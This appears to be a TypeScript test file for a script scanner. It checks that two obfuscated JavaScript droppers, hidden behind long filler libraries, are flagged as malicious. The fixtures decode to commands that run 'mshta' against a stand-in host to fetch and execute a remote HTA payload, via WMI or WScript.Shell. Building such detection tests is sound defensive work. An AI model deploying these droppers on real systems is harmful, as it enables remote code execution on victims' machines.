/** Droppers as javascript-obfuscator writes them, behind libraries that are too long to be followed. None of them runs. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'

const times = (count: number, make: (i: number) => string): string =>
  Array.from({ length: count }, (_, i) => make(i)).join('')

/** More calls than are followed. */
const BUSY = `${times(9, (i) => `function b${i}(x){b${i + 1}(x);b${i + 1}(x);b${i + 1}(x);b${i + 1}(x);b${i + 1}(x)}`)}function b9(x){y=x}b0(z);`
const LIBRARY = times(2_000, (i) => `function part${i}(a){return a+${i}}`)

const DROPPERS: Readonly<Record<string, string>> = {
  'an object of Windows': `var _0x44223f=_0x5079;function _0x5079(_0x1a9986,_0x4e24ef){_0x1a9986=_0x1a9986-0x191;var _0x14f39a=_0x14f3();var _0x507968=_0x14f39a[_0x1a9986];return _0x507968;}function _0x14f3(){var _0x43d3e9=['12kjtQrj','879OAGEQy','2126826awExUN','86MguYfg','144440zCwOFa','49AJcqCA','winmgmts:root\\x5ccimv2:Win32_Process','661146MUZQbr','331450OpVHxB','mshta\\x20http://192.0.2.1/a.hta','203318eXPZwL','Create','8289928pepVdT'];_0x14f3=function(){return _0x43d3e9;};return _0x14f3();}(function(_0x5a208e,_0x35a427){var _0x34664f=_0x5079,_0x3b78ea=_0x5a208e();while(!![]){try{var _0x40153c=parseInt(_0x34664f(0x199))/0x1+-parseInt(_0x34664f(0x192))/0x2*(parseInt(_0x34664f(0x19d))/0x3)+parseInt(_0x34664f(0x19c))/0x4*(-parseInt(_0x34664f(0x193))/0x5)+parseInt(_0x34664f(0x196))/0x6*(-parseInt(_0x34664f(0x194))/0x7)+parseInt(_0x34664f(0x19b))/0x8+parseInt(_0x34664f(0x191))/0x9+parseInt(_0x34664f(0x197))/0xa;if(_0x40153c===_0x35a427)break;else _0x3b78ea['push'](_0x3b78ea['shift']());}catch(_0x42488c){_0x3b78ea['push'](_0x3b78ea['shift']());}}}(_0x14f3,0x9bdd2),GetObject(_0x44223f(0x195))[_0x44223f(0x19a)](_0x44223f(0x198)));`,
  'code from a text': `var _0xfdd7d0=_0xd226;function _0xd226(_0x2b376b,_0x42be4c){_0x2b376b=_0x2b376b-0xb3;var _0x1569ca=_0x1569();var _0xd2268f=_0x1569ca[_0x2b376b];return _0xd2268f;}function _0x1569(){var _0x42088a=['4ahyYXB','var\\x20s\\x20=\\x20new\\x20ActiveXObject(\\x27WScript.Shell\\x27);\\x20s.Run(\\x27mshta\\x20http://192.0.2.1/a.hta\\x27,\\x200)','5761shoeEl','7116CLHBwq','870720tIWSZe','4852296weGhbX','105EWFPoJ','847692WPHKju','5402928rgRqTx','229309utRXsS','5142TXlsQz'];_0x1569=function(){return _0x42088a;};return _0x1569();}(function(_0x3b048d,_0x12d1fe){var _0x23d230=_0xd226,_0x3ec92d=_0x3b048d();while(!![]){try{var _0x1c66ef=-parseInt(_0x23d230(0xbc))/0x1*(-parseInt(_0x23d230(0xb3))/0x2)+parseInt(_0x23d230(0xba))/0x3+parseInt(_0x23d230(0xb6))/0x4*(parseInt(_0x23d230(0xb9))/0x5)+parseInt(_0x23d230(0xbd))/0x6*(parseInt(_0x23d230(0xb5))/0x7)+-parseInt(_0x23d230(0xbb))/0x8+-parseInt(_0x23d230(0xb8))/0x9+parseInt(_0x23d230(0xb7))/0xa;if(_0x1c66ef===_0x12d1fe)break;else _0x3ec92d['push'](_0x3ec92d['shift']());}catch(_0x3eb4e3){_0x3ec92d['push'](_0x3ec92d['shift']());}}}(_0x1569,0x5703e));var f=new Function(_0xfdd7d0(0xb4));f();`,
}

const { inspect } = useInspector()
const inspectScript = (source: string) => inspect(Buffer.from(source, 'latin1'), { name: 'library.js' })

suite('an obfuscated dropper behind a library is never harmless', () => {
  for (const [name, dropper] of Object.entries(DROPPERS))
    for (const [place, library] of Object.entries({ short: BUSY, long: `${BUSY}${LIBRARY}`, followed: LIBRARY }))
      test(`${name}, ${place}`, () => {
        const { findings, obstacle } = inspectScript(`${library};${dropper}`)
        assert.ok(obstacle !== null || findings.some(({ severity }) => severity === 'malicious'))
      })
})

test('the library alone is harmless', () => {
  for (const library of [LIBRARY, `${BUSY}${LIBRARY}`]) {
    const { findings, obstacle } = inspectScript(library)
    assert.equal(obstacle, null)
    assert.deepEqual(
      findings.filter(({ severity }) => severity !== 'notice').map(({ id }) => id),
      [],
    )
  }
})
